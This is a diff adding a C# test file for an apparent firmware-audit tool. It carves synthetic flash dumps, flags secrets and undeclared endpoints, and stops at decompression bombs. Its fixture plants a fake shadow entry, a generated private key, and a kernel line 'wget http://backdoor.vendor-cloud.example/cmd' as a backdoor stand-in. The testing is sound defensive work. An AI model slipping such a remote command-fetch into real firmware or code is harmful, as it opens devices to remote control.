@@ -1,0 +1,162 @@
+using System.IO.Compression;
+using System.Security.Cryptography;
+using System.Text;
+using Iris.Lab.Firmware;
+using Iris.Lab.Tests.Support;
+
+namespace Iris.Lab.Tests.Firmware;
+
+/// <summary>Raw flash dumps: images are found by signature at any offset and unpacked, within bounds that a bomb cannot pass.</summary>
+public sealed class FlashCarvingTests : IDisposable
+{
+    private const int KernelOffset = 0x10000;
+    private readonly TempDirectory dir = new();
+
+    public void Dispose() => dir.Dispose();
+
+    [Fact]
+    public async Task RawFlashDump_IsCarved_AndSecretsInItsSquashfsAtAnOddOffsetAndInItsKernelAreFound()
+    {
+        var (flash, squashfsOffset) = Flash();
+
+        using var run = await LabRun.AuditAsync("127.0.0.1", "1", [new FirmwareProbe()], null, "--firmware", flash);
+
+        run.AssertFinding("5.4.1.1", "Secret or undeclared endpoint in an unencrypted firmware image");
+        var evidence = run.Evidence("5.4.1.1");
+        Assert.Contains($"flash.bin@0x{squashfsOffset:x}.squashfs/etc/shadow", evidence, StringComparison.Ordinal);
+        Assert.Contains($"flash.bin@0x{squashfsOffset:x}.squashfs/etc/ssl/server.key", evidence, StringComparison.Ordinal);
+        // uImage header, then its gzip payload, then the URL inside the kernel.
+        Assert.Contains($"flash.bin@0x{KernelOffset:x}.uimage@0x0.gzip", evidence, StringComparison.Ordinal);
+        Assert.Contains("backdoor.vendor-cloud.example", evidence, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void RawFlashDump_ListsEachImageAtItsOffset()
+    {
+        var (flash, squashfsOffset) = Flash();
+        Assert.True(squashfsOffset % 2 == 1);
+
+        var result = FlashCarver.Carve(flash, dir.File("scratch"), CarveLimits.Default);
+
+        Assert.Contains(result.Pieces, p => p.StartsWith($"flash.bin@0x{KernelOffset:x}.uimage: UImage", StringComparison.Ordinal));
+        Assert.Contains(result.Pieces, p => p.StartsWith($"flash.bin@0x{KernelOffset:x}.uimage@0x0.gzip: Gzip", StringComparison.Ordinal));
+        Assert.Contains(result.Pieces, p => p == $"flash.bin@0x{squashfsOffset:x}.squashfs: Squashfs with 3 files");
+        Assert.Empty(result.Limits);
+        Assert.False(result.InputOpened);
+    }
+
+    [Fact]
+    public async Task GzipBomb_StopsAtTheBound_AndLeavesTheItemInconclusive()
+    {
+        // 64 MiB of zeros compress to about 64 KiB; the bound is 8 MiB.
+        var flash = dir.File("bomb.bin");
+        using (var file = File.Create(flash))
+        {
+            file.Write(FlashImages.Bootloader(4096));
+            using (var gzip = new GZipStream(file, CompressionLevel.Optimal, leaveOpen: true))
+            {
+                var zeros = new byte[1 << 20];
+                for (var i = 0; i < 64; i++)
+                {
+                    gzip.Write(zeros);
+                }
+            }
+
+            file.Write(FlashImages.Padding(4096));
+        }
+
+        var limits = new CarveLimits(8 << 20, 8, 100);
+        var scratch = dir.File("scratch");
+        var result = FlashCarver.Carve(flash, scratch, limits);
+
+        var limit = Assert.Single(result.Limits);
+        Assert.StartsWith("bomb.bin@0x1000.gzip: Gzip stream decompresses to more than the 8388608 bytes of the unpacking bound", limit, StringComparison.Ordinal);
+        Assert.True(BytesUnder(scratch) <= limits.MaxBytes, $"{BytesUnder(scratch)} bytes left in scratch");
+
+        using var run = await LabRun.AuditAsync("127.0.0.1", "1", [new FirmwareProbe(limits)], null, "--firmware", flash);
+        Assert.Equal("inconclusive", run.Verdict("5.4.1.1"));
+        Assert.Contains("decompression bomb", run.Evidence("5.4.1.1"), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void SquashfsClaimingMoreThanTheBound_IsNotUnpacked_AndIsReported()
+    {
+        var tree = dir.File("bomb-root");
+        Directory.CreateDirectory(tree);
+        using (var zeros = File.Create(Path.Combine(tree, "zeros")))
+        {
+            zeros.SetLength(64 << 20);
+        }
+
+        var image = FlashImages.Squashfs(dir, tree);
+        Assert.True(image.Length < 1 << 20);
+        var flash = dir.File("sqbomb.bin");
+        File.WriteAllBytes(flash, [.. FlashImages.Bootloader(4096), .. image, .. FlashImages.Padding(4096)]);
+
+        var scratch = dir.File("scratch");
+        var result = FlashCarver.Carve(flash, scratch, new CarveLimits(8 << 20, 8, 100));
+
+        var limit = Assert.Single(result.Limits);
+        Assert.Contains("sqbomb.bin@0x1000.squashfs: its files add up to 67108864 bytes", limit, StringComparison.Ordinal);
+        Assert.True(BytesUnder(scratch) < 8 << 20);
+    }
+
+    [Fact]
+    public void ImagesNestedDeeperThanTheBound_AreReported_AndAnImageContainingItselfIsExaminedOnce()
+    {
+        var data = Encoding.UTF8.GetBytes("deepest layer\n");
+        for (var i = 0; i < 6; i++)
+        {
+            data = FlashImages.Gzip(data);
+        }
+
+        var deep = dir.File("deep.bin");
+        File.WriteAllBytes(deep, [.. FlashImages.Bootloader(512), .. data]);
+        var deepResult = FlashCarver.Carve(deep, dir.File("scratch-deep"), new CarveLimits(8 << 20, 3, 100));
+        Assert.Contains(deepResult.Limits, l => l.EndsWith("images nested deeper than 3 levels, not unpacked", StringComparison.Ordinal));
+
+        // The same gzip twice (an A/B layout): the second copy's content is not unpacked a second time.
+        var twice = dir.File("ab.bin");
+        var kernel = FlashImages.Gzip(Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("kernel text ", 1000))));
+        File.WriteAllBytes(twice, [.. FlashImages.Bootloader(512), .. kernel, .. FlashImages.Padding(333), .. kernel]);
+        var abResult = FlashCarver.Carve(twice, dir.File("scratch-ab"), CarveLimits.Default);
+        Assert.Empty(abResult.Limits);
+        Assert.Contains(abResult.Pieces, p => p.Contains("the same bytes as a piece already examined", StringComparison.Ordinal));
+    }
+
+    /// <summary>Boot loader, a uImage kernel (gzip, with an undeclared URL in it), 0xFF padding to an odd offset, a squashfs root with secrets, padding.</summary>
+    private (string Path, long SquashfsOffset) Flash()
+    {
+        using var rsa = RSA.Create(2048);
+        var rootfs = FlashImages.Tree(dir, "rootfs", new Dictionary<string, byte[]>
+        {
+            ["etc/shadow"] = Encoding.UTF8.GetBytes("root:$6$rounds=5000$saltsalt$" + new string('A', 86) + ":19000:0:99999:7:::\n"),
+            ["etc/ssl/server.key"] = Encoding.UTF8.GetBytes(rsa.ExportPkcs8PrivateKeyPem()),
+            ["usr/share/doc/readme.txt"] = Encoding.UTF8.GetBytes("camera firmware\n"),
+        });
+        var squashfs = FlashImages.Squashfs(dir, rootfs);
+        var kernelText = new StringBuilder("Linux version 5.10.0 (builder@vendor) #1 SMP\n");
+        for (var i = 0; i < 2000; i++)
+        {
+            kernelText.Append("init: starting service ").Append(i).Append('\n');
+        }
+
+        kernelText.Append("wget http://backdoor.vendor-cloud.example/cmd\n");
+        var kernel = FlashImages.UImage(FlashImages.Gzip(Encoding.UTF8.GetBytes(kernelText.ToString())), "Linux-5.10.0");
+        var gap = 0x1235;
+        var squashfsOffset = KernelOffset + kernel.Length + gap;
+        if (squashfsOffset % 2 == 0)
+        {
+            gap++;
+            squashfsOffset++;
+        }
+
+        var path = dir.File("flash.bin");
+        File.WriteAllBytes(path, [.. FlashImages.Bootloader(KernelOffset), .. kernel, .. FlashImages.Padding(gap), .. squashfs, .. FlashImages.Padding(0x10000)]);
+        return (path, squashfsOffset);
+    }
+
+    private static long BytesUnder(string path) => Directory.Exists(path)
+        ? new DirectoryInfo(path).EnumerateFiles("*", SearchOption.AllDirectories).Sum(f => f.Length)
+        : 0;
+}
